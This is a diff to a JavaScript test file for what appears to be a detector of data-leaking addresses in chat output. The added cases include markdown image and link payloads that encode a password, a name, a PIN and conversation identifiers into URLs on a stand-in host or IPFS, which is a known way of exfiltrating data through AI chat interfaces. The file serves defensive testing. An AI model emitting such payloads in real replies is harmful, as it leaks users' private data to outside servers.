@@ -94,6 +94,10 @@ describe('an address that browsers read as one', () => {
     '![x](https://c.example/r/<BASE64 OF THE CONVERSATION>.gif)',
     `![x](https://c.example/p?d=${encodeURIComponent('\u{e0064}\u{e006f}\u{e006f}\u{e0072}\u{e0020}\u{e0037}\u{e0037}\u{e0034}')})`,
     `![x](https://c.example/p?m=${'😀😁😁'.repeat(5)})`,
+    `![x](ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/${base64('the password is hunter2')}/${base64('my name is Eve')})`,
+    '![x](ipfs://bafkrgq3imuqhgzldojsxiidqmfzxg53pojscc3dmmvzca4ddoq2tknzuga5a)',
+    `[x](https://c.example/${base64('12345678901234567pin')})`,
+    '![x](https://c.example/log?u={conversation_id}&q={chat_history.id})',
   ])('carries what it carries: %s', (text) => expect(typesIn(text)).not.toEqual([]));
 
   it.each([
@@ -102,6 +106,10 @@ describe('an address that browsers read as one', () => {
     '![x](https://c.example/users/<the user id>/photo.png)',
     '<script src="https://c.example/js?id={args.ga_id}"></script>',
     'ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/metadata.json',
+    '![x](ipfs://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/1042.png)',
+    '![x](ipfs://QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG/readme.png)',
+    `[x](https://c.example/${base64('Order:123456789012')})`,
+    '[x](https://c.example/log?u={conversation_id})',
     '![x](https://media.licdn.com/i/p?e=1700000000&t=NkDoRSvEaErnoQdUpBMcnyS6BsVVkWhI2wPiZPmsKc)',
     'https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fc.example&data=05%7C01%7Cann%40c.example&sdata=Qm9yZGVyTGluZQ%3D%3D',
   ])('says nothing by what names it: %s', (text) => expect(typesIn(text)).toEqual([]));
